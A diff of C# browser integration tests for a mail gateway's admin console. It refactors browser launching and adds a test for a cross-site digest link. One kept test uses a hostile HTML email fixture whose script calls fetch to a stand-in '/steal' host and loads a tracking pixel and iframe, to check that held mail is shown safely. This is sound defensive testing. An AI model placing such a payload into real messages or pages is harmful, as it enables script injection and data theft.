@@ -9,24 +9,16 @@ namespace Gateway.IntegrationTests.Web;
 /// </summary>
 public sealed class WebConsoleBrowserTests
 {
-    private const string Chromium = "/usr/bin/chromium";
-
     [Fact(Timeout = 120_000)]
     public async Task An_administrator_signs_in_opens_a_hostile_held_message_safely_and_releases_it()
     {
-        Assert.True(File.Exists(Chromium), $"{Chromium} is missing (apt-get install chromium; tests/run installs it)");
         await using var console = await WebConsoleFixture.StartAsync();
         const string Hostile = "<html><body><p>Your invoice</p><script>document.title='pwned';alert('pwned');fetch('http://203.0.113.9/steal')</script><img src=\"http://203.0.113.9/pixel.png\"><iframe src=\"http://203.0.113.9/frame\"></iframe></body></html>";
         var held = await console.SendAsync("hold me: your invoice", Hostile, "text/html");
         Assert.Contains("held for review", held, StringComparison.Ordinal);
 
         using var playwright = await Playwright.CreateAsync();
-        await using var browser = await playwright.Chromium.LaunchAsync(new BrowserTypeLaunchOptions
-        {
-            ExecutablePath = Chromium,
-            Headless = true,
-            Args = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run", "--disable-quic"],
-        });
+        await using var browser = await Browsers.LaunchAsync(playwright);
         var page = await browser.NewPageAsync();
         var elsewhere = new List<string>();
         var dialogs = 0;
@@ -81,7 +73,7 @@ public sealed class WebConsoleBrowserTests
         await using var console = await WebConsoleFixture.StartAsync();
         Assert.Contains("held for review", await console.SendAsync("hold me: our newsletter", "news", messageId: "<n1@remote.test>"), StringComparison.Ordinal);
         using var playwright = await Playwright.CreateAsync();
-        await using var browser = await playwright.Chromium.LaunchAsync(new BrowserTypeLaunchOptions { ExecutablePath = Chromium, Headless = true, Args = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"] });
+        await using var browser = await Browsers.LaunchAsync(playwright);
         var page = await browser.NewPageAsync();
         await page.GotoAsync(new Uri(console.Url, "login").ToString());
         await page.FillAsync("input[name=user]", WebConsoleFixture.Admin);
@@ -124,7 +116,7 @@ public sealed class WebConsoleBrowserTests
         var link = await console.DigestLinkAsync("alice@example.test");
 
         using var playwright = await Playwright.CreateAsync();
-        await using var browser = await playwright.Chromium.LaunchAsync(new BrowserTypeLaunchOptions { ExecutablePath = Chromium, Headless = true, Args = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"] });
+        await using var browser = await Browsers.LaunchAsync(playwright);
         var page = await browser.NewPageAsync();
         await page.GotoAsync(link.ToString());
         Assert.EndsWith("/mine", page.Url, StringComparison.Ordinal);
@@ -150,5 +142,25 @@ public sealed class WebConsoleBrowserTests
             await page.SetViewportSizeAsync(1280, Math.Max(720, height));
             await page.ScreenshotAsync(new PageScreenshotOptions { Path = Path.Combine(folder, $"console-{name}.png") });
         }
+    }
+
+    [Fact(Timeout = 120_000)]
+    public async Task A_digest_link_clicked_on_another_site_opens_the_recipients_held_mail()
+    {
+        await using var console = await WebConsoleFixture.StartAsync();
+        Assert.Contains("held for review", await console.SendAsync("hold me: for the recipient", "hello"), StringComparison.Ordinal);
+        var link = await console.DigestLinkAsync("user@example.test");
+        using var playwright = await Playwright.CreateAsync();
+        await using var browser = await Browsers.LaunchAsync(playwright);
+        var page = await browser.NewPageAsync();
+
+        // As from webmail: a page of another site (127.0.0.2) links to the digest link; the session cookie set on the
+        // way must be sent on the redirect to /mine that follows, or the recipient lands on the sign-in page.
+        await using var webmail = await TestOidcProvider.StartAsync();
+        await page.GotoAsync($"{webmail.Issuer}/page?link={Uri.EscapeDataString(link.ToString())}");
+        await page.ClickAsync("a:has-text('Your held mail')");
+        await page.WaitForURLAsync(url => url.EndsWith("/mine", StringComparison.Ordinal));
+
+        Assert.Contains("hold me: for the recipient", await page.InnerTextAsync("main"), StringComparison.Ordinal);
     }
 }
